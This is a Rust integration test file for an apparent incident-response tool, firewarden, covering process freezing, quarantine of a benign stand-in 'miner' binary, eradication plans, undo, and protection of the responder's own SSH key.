fn tree_freezes_a_process_and_its_descendants() {
    if !Path::new("/proc/self/stat").exists() {
        eprintln!("SKIPPED: no /proc");
        return;
    }
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let mut parent = Command::new("sh")
        .args(["-c", "sleep 300 & sleep 301 & wait"])
        .spawn()
        .unwrap();
    let pid = parent.id();
    let children = || -> Vec<u32> {
        std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children"))
            .unwrap_or_default()
            .split_whitespace()
            .filter_map(|c| c.parse().ok())
            .collect()
    };
    let start = std::time::Instant::now();
    while children().len() < 2 && start.elapsed() < std::time::Duration::from_secs(10) {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let kids = children();
    assert_eq!(kids.len(), 2);
    let state_of = |p: u32| {
        let s = std::fs::read_to_string(format!("/proc/{p}/stat")).unwrap();
        s[s.rfind(')').unwrap() + 2..].chars().next().unwrap()
    };
    ok(fw(&[
        "contain",
        "process",
        &pid.to_string(),
        "--tree",
        "--state-dir",
        sd,
        "--yes",
    ]));
    for p in std::iter::once(pid).chain(kids.iter().copied()) {
        assert!(settles(|| state_of(p) == 'T'), "{p} not stopped");
    }
    ok(fw(&["undo", "--all", "--state-dir", sd]));
    for p in std::iter::once(pid).chain(kids.iter().copied()) {
        assert!(settles(|| state_of(p) != 'T'), "{p} not thawed");
    }
    for k in kids {
        let _ = Command::new("kill").arg(k.to_string()).status();
    }
    parent.wait().unwrap();
}

#[test]
fn recover_restart_finds_processes_still_running_removed_code() {
    if !Path::new("/proc/self/exe").exists() {
        eprintln!("SKIPPED: no /proc");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    // A "miner": a copy of sleep, started, then quarantined while it runs.
    let miner = copy_of_sleep(dir.path(), "kworkerd");
    let mut child = Command::new(&miner).arg("300").spawn().unwrap();
    let pid = child.id();
    ok(fw(&[
        "contain",
        "file",
        miner.to_str().unwrap(),
        "--state-dir",
        sd,
        "--yes",
    ]));
    let out = ok(fw(&["recover", "restart", "--state-dir", sd, "--dry-run"]));
    assert!(
        out.contains(&format!("pid {pid}")) && out.contains("still runs removed code"),
        "{out}"
    );
    child.kill().unwrap();
    child.wait().unwrap();
    ok(fw(&["undo", "A1", "--state-dir", sd]));
    assert!(miner.exists());
}

/// Whether the live namespace tests can run: root and the util-linux tools named. Says so when
/// they cannot; under CI (which installs them and runs as root) that is a failure instead.
fn can_use_namespaces(test: &str, tools: &[&str]) -> bool {
    let root = std::fs::read_to_string("/proc/self/status")
        .unwrap_or_default()
        .lines()
        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(1) == Some("0"));
    if root && tools.iter().all(|t| Path::new("/usr/bin").join(t).exists()) {
        return true;
    }
    let msg = format!("{test} needs root and {} (util-linux)", tools.join(", "));
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{msg}");
    }
    eprintln!("SKIPPED: {msg}");
    false
}

/// A copy of `sleep` named `name` in `dir`: a stand-in for a dropped binary.
fn copy_of_sleep(dir: &Path, name: &str) -> PathBuf {
    let sleep = ["/usr/bin/sleep", "/bin/sleep"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("no sleep binary");
    let copy = dir.join(name);
    std::fs::copy(sleep, &copy).unwrap();
    copy
}

/// Kills a pid when dropped, so a failing test leaves no process behind.
struct Reap(u32);
impl Drop for Reap {
    fn drop(&mut self) {
        let _ = Command::new("kill")
            .args(["-9", &self.0.to_string()])
            .status();
    }
}

#[test]
fn a_running_miner_is_ended_after_its_evidence_is_kept_and_its_binary_quarantined() {
    if !Path::new("/proc/self/exe").exists() {
        eprintln!("SKIPPED: no /proc");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let sd = state.path().to_str().unwrap();
    let miner = copy_of_sleep(dir.path(), "xmrig");
    // Started by a shell that exits at once: the miner is an orphan, as a dropped one is.
    let out = Command::new("sh")
        .args([
            "-c",
            &format!("'{}' 300 >/dev/null 2>&1 & echo $!", miner.display()),
        ])
        .output()
        .unwrap();
    let pid: u32 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    let _reap = Reap(pid);
    let report = dir.path().join("t.json");
    fw(&[
        "triage",
        "--only",
        "linux.process.miner",
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    let id = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["evidence"][0]["pid"] == pid)
        .unwrap_or_else(|| panic!("triage did not see the miner: {v}"))["id"]
        .as_str()
        .unwrap()
        .to_string();
    let out = fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        &id,
        "--state-dir",
        sd,
        "--yes",
    ]);
    let t = text(&out);
    assert_eq!(out.status.code(), Some(0), "{t}");
    assert!(
        t.contains("end (SIGKILL") && t.contains("keep evidence /proc/"),
        "{t}"
    );
    assert!(settles(|| !Path::new(&format!("/proc/{pid}/exe")).exists()
        || std::fs::read_to_string(format!("/proc/{pid}/stat"))
            .is_ok_and(|s| s.contains(") Z"))));
    assert!(!miner.exists(), "the miner's binary was not quarantined");
    let undone = ok(fw(&["undo", "A1", "--state-dir", sd]));
    assert!(undone.contains("cannot be brought back"), "{undone}");
    assert!(miner.exists(), "undo did not restore the binary");
}

/// The plan a responder reads before saying yes, as a snapshot: `tests/golden/eradicate-plan.txt`
/// (regenerate with `UPDATE_GOLDEN=1 cargo test -p firewarden --test respond`). Owners are
/// normalised so that the snapshot holds whoever runs the tests.
#[test]
fn eradicate_plan_snapshot() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let work = tempfile::tempdir().unwrap();
    let report = work.path().join("t.json");
    fw(&[
        "triage",
        "--root",
        r,
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    let state = work.path().join("state");
    let out = ok(fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        "--all",
        "--root",
        r,
        "--state-dir",
        state.to_str().unwrap(),
        "--dry-run",
    ]));
    let uid = std::fs::metadata(root.path().join("etc/passwd"))
        .unwrap()
        .uid();
    let gid = std::fs::metadata(root.path().join("etc/passwd"))
        .unwrap()
        .gid();
    let got = out.replace(&format!("owner {uid}:{gid}"), "owner UID:GID");
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/eradicate-plan.txt");
    if std::env::var_os("UPDATE_GOLDEN").is_some() {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &got).unwrap();
    }
    assert_eq!(
        std::fs::read_to_string(&path).unwrap_or_default(),
        got,
        "the plan changed: review it, then UPDATE_GOLDEN=1"
    );
}

/// The key the responder's own SSH session logged in with is never removed, found from sshd's
/// log line for that session. Runs on the live host inside a private mount namespace whose
/// /root and /var/log are throwaway copies.
#[test]
fn the_responders_own_key_is_never_eradicated() {
    if !can_use_namespaces("own-key test", &["unshare"]) {
        return;
    }
    let fake = tempfile::tempdir().unwrap();
    // A key made with ssh-keygen; its fingerprint is the one sshd logs for it.
    let key = "command=\"/usr/local/bin/backup\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKBwE2PGnWTrdsfs+MBmYuAXoJMcS87NNn2ttLNhWSey admin@corp";
    write(
        fake.path(),
        "/root/.ssh/authorized_keys",
        &format!("{key}\n"),
        0o600,
    );
    write(
        fake.path(),
        "/log/auth.log",
        "Nov 30 08:00:03 web01 sshd[102]: Accepted publickey for root from 198.51.100.7 port 50022 ssh2: ED25519 SHA256:1b/7QJezk9jCK8jEDoTm91hHZ7HK3WhSPQsGdR26DYA\n",
        0o640,
    );
    let state = tempfile::tempdir().unwrap();
    // The build may live under /root (CARGO_TARGET_DIR), which the namespace hides: run a copy.
    let fw_bin = state.path().join("firewarden");
    std::fs::copy(env!("CARGO_BIN_EXE_firewarden"), &fw_bin).unwrap();
    let fw_bin = fw_bin.display().to_string();
    let script = format!(
        r#"set -e
mount --bind '{home}' /root
mount --bind '{log}' /var/log
'{fw}' triage --only linux.ssh.authorized_keys --format json -o '{sd}/t.json' || true
id=$(grep -o '"id": *"linux.ssh.authorized_keys:[0-9a-f]*"' '{sd}/t.json' | head -1 | sed 's/.*"\(linux[^"]*\)"/\1/')
echo "ID=$id"
set +e
SSH_CONNECTION="198.51.100.7 50022 10.0.0.1 22" '{fw}' eradicate --from '{sd}/t.json' "$id" --state-dir '{sd}/s' --yes > '{sd}/own.out' 2>&1
echo "OWN=$?"
SSH_CONNECTION="198.51.100.7 50099 10.0.0.1 22" '{fw}' eradicate --from '{sd}/t.json' "$id" --state-dir '{sd}/s' --yes > '{sd}/other.out' 2>&1
echo "OTHER=$?"
cat /root/.ssh/authorized_keys | wc -l
"#,
        home = fake.path().join("root").display(),
        log = fake.path().join("log").display(),
        fw = fw_bin,
        sd = state.path().display(),
    );
    let out = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "bash", "-c", &script])
        .env_remove("SSH_CONNECTION")
        .output()
        .unwrap();
    let all = text(&out);
    let own = std::fs::read_to_string(state.path().join("own.out")).unwrap_or_default();
    assert!(
        all.contains("ID=linux.ssh.authorized_keys:"),
        "triage did not flag the key: {all}"
    );
    assert!(all.contains("OWN=2"), "{all}\n{own}");
    assert!(own.contains("your own SSH session logged in with"), "{own}");
    // Another session (another source port, so not this key's login) may remove it.
    assert!(all.contains("OTHER=0"), "{all}");
    assert_eq!(
        std::fs::read_to_string(fake.path().join("root/.ssh/authorized_keys")).unwrap(),
        ""
    );
}

/// A refused eradication is an error, even when re-running the check would not reproduce the
/// finding (a finding from a wider triage window, or one edited by hand): only a foothold the
/// plan found gone counts as gone.
#[test]
fn a_refusal_is_never_reported_as_gone() {
    let root = planted_root();
    let r = root.path().to_str().unwrap();
    let work = tempfile::tempdir().unwrap();
    let report = work.path().join("t.json");
    fw(&[
        "triage",
        "--root",
        r,
        "--only",
        "linux.web",
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    let mut v: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report).unwrap()).unwrap();
    // A page-tampering finding: eradication refuses it (recover web is the way).
    let f = &mut v["findings"][0];
    f["check"] = "linux.web.tampering".into();
    let id = f["id"].as_str().unwrap().to_string();
    std::fs::write(&report, serde_json::to_vec(&v).unwrap()).unwrap();
    let state = work.path().join("state");
    let out = fw(&[
        "eradicate",
        "--from",
        report.to_str().unwrap(),
        &id,
        "--root",
        r,
        "--state-dir",
        state.to_str().unwrap(),
        "--yes",
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert!(text(&out).contains("recover web"), "{}", text(&out));
    assert!(!text(&out).contains("already gone"), "{}", text(&out));
}
